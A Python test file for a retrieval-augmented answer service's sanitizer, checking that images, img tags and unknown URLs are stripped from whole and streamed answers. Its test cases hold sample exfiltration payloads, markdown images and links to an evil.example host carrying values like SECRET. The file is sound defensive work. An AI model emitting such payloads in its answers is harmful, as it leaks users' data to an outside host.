"""Answers leave the service inert: no images, loading tags or unknown URLs, even streamed."""

from __future__ import annotations

import random

import pytest

from rag.answer.sanitize import REMOVED, sanitize_answer, sanitize_stream

PASSAGES = ["Read https://intranet.example/handbook for the details."]
CASES = [
    "27 days [1]. ![x](http://evil.example/?q=SECRET)",
    "See [the form](http://evil.example/c?d=S) now.",
    '<img src="http://evil.example/i?s=1"> Text http://evil.example/?q=abc. Also https://intranet.example/handbook',
    "Ref ![a][1]\n[1]: http://evil.example/?q=s",
    "Answer [2] and [3].",
]


def test_images_tags_links_and_unknown_urls_are_removed() -> None:
    out = [sanitize_answer(c, PASSAGES) for c in CASES]
    assert out[0] == "27 days [1]."
    assert out[1] == "See the form now."
    assert "<img" not in out[2] and "evil.example" not in out[2] and REMOVED in out[2]
    assert "https://intranet.example/handbook" in out[2]  # a URL the documents hold stays
    assert out[3] == "Ref" and out[4] == "Answer [2] and [3]."


@pytest.mark.parametrize("seed", range(20))
def test_streamed_pieces_add_up_to_the_sanitised_answer_and_never_leak(seed: int) -> None:
    rng = random.Random(seed)
    for text in CASES:
        pieces, i = [], 0
        while i < len(text):
            n = rng.randint(1, 5)
            pieces.append(text[i:i + n])
            i += n
        streamed = list(sanitize_stream(pieces, PASSAGES))
        assert "".join(streamed) == sanitize_answer(text, PASSAGES)
        assert not any("evil.example" in s or "![" in s or "<img" in s for s in streamed)
